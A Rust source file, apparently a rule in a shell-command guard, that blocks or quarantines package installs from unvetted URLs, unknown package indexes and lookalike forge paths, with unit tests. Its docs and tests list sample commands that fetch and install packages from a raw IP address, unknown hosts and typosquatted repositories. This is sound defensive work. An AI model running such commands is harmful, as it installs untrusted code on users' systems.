//! Supply chain: installing packages from arbitrary URLs or indexes.
//!
//! ## Why
//! `pip install http://IP/pkg.tar.gz` or `npm install https://host/x.tgz`
//! runs install scripts fetched from a host nobody vetted: it blocks. An
//! extra or replaced package index on an unknown host quarantines
//! (dependency confusion). Installing a named package, a requirements
//! file, the project itself (`-e .`) or from a well-known forge's git URL
//! is ordinary.
//!
//! ## Example
//! `pip install http://104.248.51.77/pkgs/requests.tar.gz`,
//! `npm install https://cdn.example/lodash.tgz`,
//! `pip install --extra-index-url http://pypi.corp-mirror.xyz/simple/ boto3`.
//!
//! ## Not flagged
//! `pip install requests==2.32.3`, `pip install -e '.[dev]'`, `npm ci`,
//! `pip install git+https://github.com/psf/black@24.8.0` (flag at most),
//! `pip install --index-url https://pypi.internal.acme.corp/simple acme-utils`
//! (an organisation's own mirror on a private name or address is how
//! dependency confusion is prevented, not a way in).

use super::registry::Hit;
use crate::Tier;
use palisade_shell::Invocation;

/// Hosts that serve packages or source for everyone.
const KNOWN_HOSTS: &[&str] = &[
    "github.com",
    "gitlab.com",
    "bitbucket.org",
    "codeload.github.com",
    "files.pythonhosted.org",
    "pypi.org",
    "registry.npmjs.org",
    "registry.yarnpkg.com",
    "crates.io",
    "static.crates.io",
    "download.pytorch.org",
    "rubygems.org",
    "proxy.golang.org",
];

fn host_of(url: &str) -> Option<&str> {
    let rest = url.split_once("://")?.1;
    let authority = rest.split(['/', '?', '#']).next()?;
    let host = authority.rsplit('@').next()?;
    Some(host.split(':').next().unwrap_or(host))
}

/// Names and addresses only an organisation's own network resolves: a
/// private suffix (`.internal`, `.corp`, `.lan`, …), a single-label name,
/// a private or loopback IPv4 address.
fn private(host: &str) -> bool {
    const SUFFIXES: &[&str] = &[
        ".internal",
        ".corp",
        ".local",
        ".lan",
        ".intranet",
        ".home.arpa",
        ".localdomain",
    ];
    let host = host.to_ascii_lowercase();
    if SUFFIXES.iter().any(|s| host.ends_with(s)) || (!host.is_empty() && !host.contains('.')) {
        return true;
    }
    host.parse::<std::net::Ipv4Addr>()
        .is_ok_and(|ip| ip.is_private() || ip.is_loopback())
}

fn known(host: &str) -> bool {
    let host = host.to_ascii_lowercase();
    KNOWN_HOSTS
        .iter()
        .any(|k| host == *k || host.ends_with(&format!(".{k}")))
        || host == "localhost"
        || host.starts_with("127.")
}

/// `python -m pip install …`, `py -m pip …`: the installer run as a module
/// reads as the installer.
pub(crate) fn module_install(inv: &Invocation) -> Option<Hit> {
    let args = inv.args();
    let module = args.iter().position(|a| a == "-m")?;
    let name = args.get(module + 1)?.as_str();
    if !matches!(name, "pip" | "pip3" | "uv" | "pipx") {
        return None;
    }
    install_from_url(inv)
}

/// The install rule.
pub(crate) fn install_from_url(inv: &Invocation) -> Option<Hit> {
    let args = inv.args();
    let installs = args
        .iter()
        .any(|a| matches!(a.as_str(), "install" | "i" | "add" | "get"));
    if !installs {
        return None;
    }
    let mut index_hit = false;
    let mut value_of_flag = false;
    for (i, a) in args.iter().enumerate() {
        if std::mem::take(&mut value_of_flag) {
            continue;
        }
        let (flag, value, joined) = match a.split_once('=') {
            Some((f, v)) if f.starts_with("--") => (f, Some(v.to_owned()), true),
            _ => (a.as_str(), args.get(i + 1).cloned(), false),
        };
        if matches!(
            flag,
            "--extra-index-url"
                | "--index-url"
                | "-i"
                | "--registry"
                | "--find-links"
                | "-f"
                | "--source"
        ) {
            if let Some(host) = value.as_deref().and_then(host_of) {
                if !known(host) && !private(host) {
                    index_hit = true;
                }
            }
            // The flag's value is the index, not a package to install.
            value_of_flag = !joined;
            continue;
        }
        let url = a.strip_prefix("git+").unwrap_or(a);
        if !(url.starts_with("http://") || url.starts_with("https://")) {
            continue;
        }
        if let Some(host) = host_of(url) {
            if !known(host) {
                return Some(Hit::new("tool.install_from_url", Tier::Block));
            }
            if lookalike_path(url) {
                return Some(Hit::new("tool.lookalike_source", Tier::Quarantine));
            }
        }
    }
    index_hit.then_some(Hit::new("tool.untrusted_index", Tier::Quarantine))
}

/// A letter a digit stands in for (`l0dash` → `lodash`).
fn unleet(c: char) -> Option<char> {
    Some(match c {
        '0' => 'o',
        '1' => 'l',
        '3' => 'e',
        '4' => 'a',
        '5' => 's',
        '7' => 't',
        c if c.is_ascii_alphabetic() => c.to_ascii_lowercase(),
        _ => return None,
    })
}

/// Whether a forge path imitates itself by digits for letters: a name
/// segment of the owner or repository with a digit between letters that,
/// read as letters, is another segment of the path
/// (`github.com/l0dash-utils/lodash`, `github.com/lodash/l0dash`); names
/// with digits of their own (`i18n`, `k8s`, `web3`) match nothing.
fn lookalike_path(url: &str) -> bool {
    let Some(rest) = url.split_once("://").map(|(_, r)| r) else {
        return false;
    };
    let mut parts = rest.split(['/', '?', '#', '@']).skip(1).take(2);
    let (Some(owner), Some(repo)) = (parts.next(), parts.next()) else {
        return false;
    };
    let repo = repo.strip_suffix(".git").unwrap_or(repo);
    let segments: Vec<String> = [owner, repo]
        .iter()
        .flat_map(|p| p.split(['-', '_', '.']))
        .map(str::to_ascii_lowercase)
        .filter(|p| p.len() >= 4)
        .collect();
    segments.iter().any(|s| {
        let b = s.as_bytes();
        let disguised = (1..b.len().saturating_sub(1)).any(|i| {
            b[i].is_ascii_digit()
                && b[i - 1].is_ascii_alphabetic()
                && b[i + 1].is_ascii_alphabetic()
        });
        let read: Option<String> = s.chars().map(unleet).collect();
        disguised && read.is_some_and(|r| r != *s && segments.contains(&r))
    })
}

#[cfg(test)]
mod tests {
    use super::*;

    fn hit(cmd: &str) -> Option<&'static str> {
        let script = palisade_shell::commands_run(cmd);
        script
            .commands
            .iter()
            .find_map(|inv| install_from_url(inv).or_else(|| module_install(inv)))
            .map(|h| h.id)
    }

    #[test]
    fn urls_and_indexes() {
        for (cmd, want) in [
            (
                "pip install http://104.248.51.77/pkgs/requests.tar.gz",
                Some("tool.install_from_url"),
            ),
            (
                "npm install https://cdn.example/lodash.tgz",
                Some("tool.install_from_url"),
            ),
            (
                "pip install --extra-index-url http://pypi.corp-mirror.xyz/simple/ boto3",
                Some("tool.untrusted_index"),
            ),
            (
                "python3 -m pip install -i https://pkgs.example.top/simple requests",
                Some("tool.untrusted_index"),
            ),
            (
                "pip install --index-url https://pypi.internal.acme.corp/simple acme-utils",
                None,
            ),
            (
                "pip install --extra-index-url=http://10.2.0.8:8080/simple acme-core",
                None,
            ),
            (
                "npm install --registry http://verdaccio:4873 @acme/ui",
                None,
            ),
            ("pip install requests==2.32.3", None),
            ("pip install git+https://github.com/psf/black@24.8.0", None),
            // a forge path that imitates itself by digits for letters
            (
                "npm install git+https://github.com/l0dash-utils/lodash.git --save",
                Some("tool.lookalike_source"),
            ),
            (
                "pip install git+https://github.com/requ3sts/requests",
                Some("tool.lookalike_source"),
            ),
            (
                "npm install git+https://github.com/i18next/i18next.git",
                None,
            ),
            ("pip install git+https://github.com/web3py/web3.py", None),
            (
                "npm install git+https://github.com/k8s-tools/k8s-client.git",
                None,
            ),
        ] {
            assert_eq!(hit(cmd), want, "{cmd}");
        }
    }
}
